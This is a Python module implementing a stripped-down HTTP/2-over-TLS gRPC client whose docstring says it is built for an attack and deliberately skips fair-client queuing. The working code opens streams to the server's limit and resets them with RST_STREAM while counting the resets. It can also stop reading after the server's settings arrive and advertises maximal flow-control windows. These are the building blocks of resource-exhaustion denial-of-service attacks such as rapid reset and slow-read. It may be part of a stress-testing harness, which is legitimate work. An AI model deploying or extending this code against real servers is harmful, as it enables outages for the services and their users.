"""The client side of HTTP/2 over TLS, reduced to what an attack needs.

A library of gRPC would queue, wait and acknowledge as a fair client does, and would use more of the
processor that the attack shares with the server. This one sends whatever the server's windows allow.
"""
import collections
import itertools
import re
import select
import socket
import ssl
import struct

DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE = 0, 1, 3, 4, 6, 7, 8
END_STREAM, ACK, END_HEADERS = 1, 1, 4
HEADER_TABLE_SIZE, MAX_CONCURRENT_STREAMS, INITIAL_WINDOW_SIZE = 1, 3, 4
MAX_WINDOW = 2**31 - 1
DEFAULT_WINDOW = 65_535
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
MAX_WAITING_BYTES = 1 << 18  # not yet written to the socket
STATUSES = ("OK CANCELLED UNKNOWN INVALID_ARGUMENT DEADLINE_EXCEEDED NOT_FOUND ALREADY_EXISTS"
            " PERMISSION_DENIED RESOURCE_EXHAUSTED FAILED_PRECONDITION ABORTED OUT_OF_RANGE"
            " UNIMPLEMENTED INTERNAL UNAVAILABLE DATA_LOSS UNAUTHENTICATED").split()


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + payload


def literal(name, value):
    """A header field without compression; both texts are shorter than 127 bytes."""
    return b"\0" + bytes((len(name),)) + name.encode() + bytes((len(value),)) + value.encode()


def message(body):
    """A message of gRPC."""
    return b"\0" + struct.pack(">I", len(body)) + body


class Statistics:
    """What all connections of this process did."""

    def __init__(self):
        self.connections = self.failures = self.calls = self.served = self.data_frames = self.bytes = 0
        self.ends = collections.Counter()  # by status
        self.messages = {}  # the first one of each status

    @property
    def answered(self):
        return self.served + sum(self.ends.values())


class TlsPeer:
    """One connection of any protocol. It is closed if `closed` is set; its calls have then ended."""

    def __init__(self, host, port, tls, statistics):
        raw = socket.create_connection((host, port), timeout=5)
        raw.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.socket = tls.wrap_socket(raw, server_hostname=host)
        self.socket.setblocking(False)
        self.reads = True
        self.closed = False
        self.calls = {}  # the open calls
        self.statistics = statistics
        statistics.connections += 1
        self._in = b""
        self._out = bytearray()

    def close(self, reason):
        if not self.closed:
            self.closed = True
            self.statistics.ends[reason] += len(self.calls)
            self.calls.clear()
            self.socket.close()

    def pump(self):
        """Writes and reads what the socket accepts and has."""
        try:
            while self._out and not self.closed:
                del self._out[:self.socket.send(memoryview(self._out)[:65_536])]
        except (ssl.SSLWantReadError, ssl.SSLWantWriteError):
            pass
        except OSError:
            self.close("connection closed")
        try:
            for _ in range(64):
                if self.closed or not self.reads:
                    return
                data = self.socket.recv(1 << 16)
                if not data:
                    self.close("connection closed")
                self._receive(data)
        except (ssl.SSLWantReadError, ssl.SSLWantWriteError):
            pass
        except OSError:
            self.close("connection closed")


class Http2Peer(TlsPeer):
    """A connection with calls of gRPC: stream number to the send window."""

    def __init__(self, host, port, tls, token, statistics, window=MAX_WINDOW, reads=True):
        super().__init__(host, port, tls, statistics)
        self._reads_calls = reads  # otherwise it stops reading when the server's settings have arrived
        self.ids = itertools.count(1, 2)
        self.resets = 0
        self._token = token
        self._unfinished = set()  # the calls that this side has not half-closed
        self._unacknowledged = 0
        self._send_window = DEFAULT_WINDOW
        self._initial_send_window = DEFAULT_WINDOW
        self._max_calls = 1  # until the server reports its limit
        settings = struct.pack(">HIHI", HEADER_TABLE_SIZE, 0, INITIAL_WINDOW_SIZE, window)
        self._out = bytearray(PREFACE + frame(SETTINGS, 0, 0, settings))
        self._out += self._open_window(MAX_WINDOW - DEFAULT_WINDOW)

    @staticmethod
    def _open_window(size):
        return frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", size))

    def _header_block(self, method):
        fields = {":method": "POST", ":scheme": "https", ":path": method, ":authority": "localhost",
                  "te": "trailers", "content-type": "application/grpc",
                  "authorization": "Bearer " + self._token}
        return b"".join(literal(*each) for each in fields.items())

    def call(self, method, body, half_close=True):
        """Begins a call with one message; returns its number, or None if it has to wait."""
        request = message(body)
        if (self.closed or len(self.calls) >= self._max_calls or len(self._out) > MAX_WAITING_BYTES
                or len(request) > self._send_window):
            return None
        stream = next(self.ids)
        self.calls[stream] = self._initial_send_window
        self._unfinished.add(stream)
        self._out += frame(HEADERS, END_HEADERS, stream, self._header_block(method))
        self.send(stream, request, half_close)
        self.statistics.calls += 1
        return stream

    def send(self, stream, data, half_close=False):
        """Sends bytes of an open call; returns whether the windows allow that."""
        window = self.calls.get(stream)
        if window is None or len(data) > min(window, self._send_window) or len(self._out) > MAX_WAITING_BYTES:
            return False
        self.calls[stream] -= len(data)
        self._send_window -= len(data)
        self._out += frame(DATA, END_STREAM if half_close else 0, stream, data)
        if half_close:
            self._unfinished.discard(stream)
        return True

    def _forget(self, stream):
        """Returns whether the call was open."""
        self._unfinished.discard(stream)
        return self.calls.pop(stream, None) is not None

    def cancel(self, stream):
        if self._forget(stream):
            self._out += frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
            self.statistics.ends["cancelled by the caller"] += 1
            self.resets += 1

    def _receive(self, data):
        self.statistics.bytes += len(data)
        data = self._in + data
        start = 0
        while len(data) - start >= 9:
            end = start + 9 + int.from_bytes(data[start:start + 3], "big")
            if end > len(data):
                break
            kind = data[start + 3]
            if kind == DATA:
                self.statistics.data_frames += 1
                self._unacknowledged += end - start - 9
            else:
                stream = int.from_bytes(data[start + 5:start + 9], "big")
                self._on_frame(kind, data[start + 4], stream, data[start + 9:end])
            start = end
        self._in = data[start:]
        if self._unacknowledged > 1 << 30:
            self._out += self._open_window(self._unacknowledged)
            self._unacknowledged = 0

    def _on_frame(self, kind, flags, stream, payload):
        if kind == HEADERS:
            if flags & END_STREAM:
                self._end(stream, payload)
            else:
                self.statistics.served += 1
        elif kind == WINDOW_UPDATE:
            size = int.from_bytes(payload, "big")
            if stream == 0:
                self._send_window += size
            elif stream in self.calls:
                self.calls[stream] += size
        elif kind == SETTINGS and not flags & ACK:
            for name, value in struct.iter_unpack(">HI", payload):
                if name == INITIAL_WINDOW_SIZE:
                    more = value - self._initial_send_window
                    self.calls = {each: window + more for each, window in self.calls.items()}
                    self._initial_send_window = value
                elif name == MAX_CONCURRENT_STREAMS:
                    self._max_calls = value
            self._out += frame(SETTINGS, ACK, 0)
            self.reads = self._reads_calls
        elif kind == PING and not flags & ACK:
            self._out += frame(PING, ACK, 0, payload)
        elif kind == RST_STREAM:
            if self._forget(stream):
                self.statistics.ends["reset by the server"] += 1
        elif kind == GOAWAY:
            self.close("goaway " + payload[8:].decode("ascii", "replace"))

    def _end(self, stream, block):
        """Ends a call by its trailers, which the server sends without compression."""
        unfinished = stream in self._unfinished
        if not self._forget(stream):
            return
        if unfinished:  # otherwise the server counts the stream as open
            self._out += frame(DATA, END_STREAM, stream)
        status = re.search(rb"grpc-status.(\d+)", block, re.DOTALL)
        name = STATUSES[int(status[1])] if status else "no status"
        self.statistics.ends[name] += 1
        text = re.search(rb"grpc-message.(.+)", block, re.DOTALL)
        if text:
            self.statistics.messages.setdefault(name, text[1].decode("ascii", "replace")[:120])


def wait(peers, seconds):
    """Waits until one of the peers has something to read or to write."""
    peers = [each for each in peers if each and not each.closed]
    select.select([each.socket for each in peers if each.reads],
                  [each.socket for each in peers if each._out], [], seconds)
